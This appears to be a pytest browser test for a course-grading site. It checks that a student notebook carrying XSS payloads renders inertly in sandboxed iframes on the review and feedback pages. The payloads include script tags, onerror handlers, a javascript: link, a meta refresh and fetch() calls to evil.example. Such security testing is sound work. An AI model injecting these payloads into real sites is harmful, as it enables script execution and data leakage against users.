"""What a student wrote, in the pages of those who mark: it is seen, it does not run, and nothing leaves the page."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.browser.person import PASSWORD, Person
from tests.live import LiveSite

pytestmark = [pytest.mark.browser, pytest.mark.live, pytest.mark.timeout(300)]

COURSE = f"""
import json
from classroom import courses
from classroom.models import Enrollment
from classroom.people.models import User
from runtimes import storage
from tests.classroom.work import PS1, graded, handed_in, published, source, work_of
from grading import feedback
names = ("gina", "tina", "ada")
people = {{name: User.objects.create_user(name, name + "@example.org", "{PASSWORD}") for name in names}}
course = courses.create(slug="safe", title="Safe", term="", time_zone="UTC", by=people["gina"])
Enrollment.objects.create(course=course, user=people["tina"], role="ta")
Enrollment.objects.create(course=course, user=people["ada"], role="student")
assignment = published(course, people["gina"])
evil = "<script>top.PWNED=1;parent.PWNED=1;fetch('https://evil.example/f')</script>" \\
    "<img src='https://evil.example/i' onerror='top.PWNED=2'><a href='javascript:top.PWNED=3'>x</a>" \\
    "<form action='https://evil.example/'><input name=q></form><p id='shown'>Result</p>" \\
    "<meta http-equiv=refresh content='0;url=https://evil.example/m'><iframe src='https://evil.example/g'></iframe>"
content = json.loads(source())
content["cells"][0]["source"] = "Words " + evil
content["cells"][1]["outputs"] = [
    {{"output_type": "display_data", "metadata": {{}}, "data": {{"text/html": evil}}}},
    {{"output_type": "display_data", "metadata": {{}},
      "data": {{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>top.PWNED=4</script></svg>"}}}},
    {{"output_type": "display_data", "metadata": {{}}, "data": {{"application/javascript": "top.PWNED=5"}}}},
]
storage.write(work_of(assignment, people["ada"]).workspace, PS1, json.dumps(content).encode())
submission = graded(handed_in(assignment, people["ada"]))
type(submission).objects.update(state="reviewed")
feedback.release([submission], people["gina"])
print("CODE", submission.code)
"""


@pytest.fixture(scope="module")
def code(live: LiveSite) -> str:
    return live.manage("shell", "-c", COURSE).split("CODE ")[1].strip()


@pytest.mark.parametrize(("username", "page"), [("tina", "review"), ("ada", "feedback")])
def test_a_hostile_notebook_is_only_looked_at(
    live: LiveSite, person: Callable[[], Person], code: str, username: str, page: str
) -> None:
    reader = person()
    reader.sign_in(username)
    asked: list[str] = []
    reader.page.on("request", lambda request: asked.append(request.url))
    reader.visit(f"/{page}/{code}/")
    frame = reader.page.frame_locator("iframe[srcdoc]").first
    reader.page.locator("iframe[srcdoc]").first.scroll_into_view_if_needed()
    expect(frame.locator("#shown")).to_have_text("Result")
    reader.page.wait_for_load_state("networkidle")
    assert reader.page.evaluate("window.PWNED") is None
    assert reader.page.url.endswith(f"/{page}/{code}/")
    hosts = {urlsplit(url).netloc for url in asked if urlsplit(url).scheme.startswith("http")}
    assert hosts == {urlsplit(live.url).netloc}
    for attribute in reader.page.locator("iframe[srcdoc]").evaluate_all("all => all.map(one => one.sandbox.value)"):
        assert attribute == ""
